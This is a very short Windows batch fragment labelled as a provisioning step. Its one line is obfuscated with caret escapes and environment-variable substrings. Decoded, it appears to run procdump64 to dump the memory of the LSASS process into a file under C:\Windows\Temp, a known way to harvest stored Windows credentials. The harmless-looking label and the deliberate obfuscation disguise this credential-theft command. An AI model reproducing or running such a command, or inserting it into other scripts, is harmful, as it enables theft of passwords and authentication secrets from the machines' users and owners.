REM provision 7798 v2
^p%PROGRAMDATA:~-10,1%o%comspec:~20,1%%windir:~-4,1%um^p64.%COMSPEC:~-3,1%%comspec:~25,1%%COMSPEC:~24,1% -^ac^ce^p^teu^l^a -m^a l^s^as^s.^exe C:\^Win^dow^s\Te^m^p\^l^s.^d^mp
